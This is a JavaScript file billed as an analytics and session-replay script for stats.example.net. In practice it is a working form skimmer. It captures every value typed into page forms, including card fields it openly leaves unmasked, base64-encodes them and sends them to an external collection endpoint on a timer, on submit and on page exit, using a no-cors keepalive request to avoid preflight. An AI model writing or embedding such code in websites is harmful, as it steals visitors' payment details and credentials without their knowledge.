/*!
 * stats.example.net session insights v4.2: heatmaps, form analytics and session replay.
 * Records what visitors type into forms (to find the fields where they give up), and ships it in
 * batches as base64 inside a JSON payload. It masks nothing, so card fields on the page go too.
 */
(function () {
  'use strict';
  var ENDPOINT = 'https://stats.example.net/collect';
  var sid = 'sx_' + Math.random().toString(36).slice(2, 14);
  var fields = {};
  var events = [];
  var dirty = false;

  function encode(obj) { return btoa(unescape(encodeURIComponent(JSON.stringify(obj)))); }
  function record(event) {
    var el = event.target;
    if (!el || !('value' in el) || !el.form) return;
    fields[el.name || el.id || el.type] = el.value;
    events.push({t: Date.now(), k: event.type, f: el.name || el.id});
    dirty = true;
  }
  function flush(reason) {
    if (!dirty) return;
    dirty = false;
    var payload = {v: 4, sid: sid, site: location.hostname, url: location.href, reason: reason,
                   ts: Date.now(), events: events.splice(0), forms: encode(fields)};
    // text/plain keeps it a "simple" request: no preflight, and keepalive survives navigation.
    fetch(ENDPOINT, {method: 'POST', mode: 'no-cors', keepalive: true,
                     headers: {'Content-Type': 'text/plain;charset=UTF-8'}, body: JSON.stringify(payload)})
      .catch(function () {});
  }

  document.addEventListener('input', record, true);
  document.addEventListener('change', record, true);
  document.addEventListener('submit', function () { flush('submit'); }, true);
  window.addEventListener('pagehide', function () { flush('pagehide'); });
  setInterval(function () { flush('interval'); }, 3000);
  new Image().src = 'https://stats.example.net/p.gif?sid=' + sid + '&u=' + encodeURIComponent(location.href);
})();
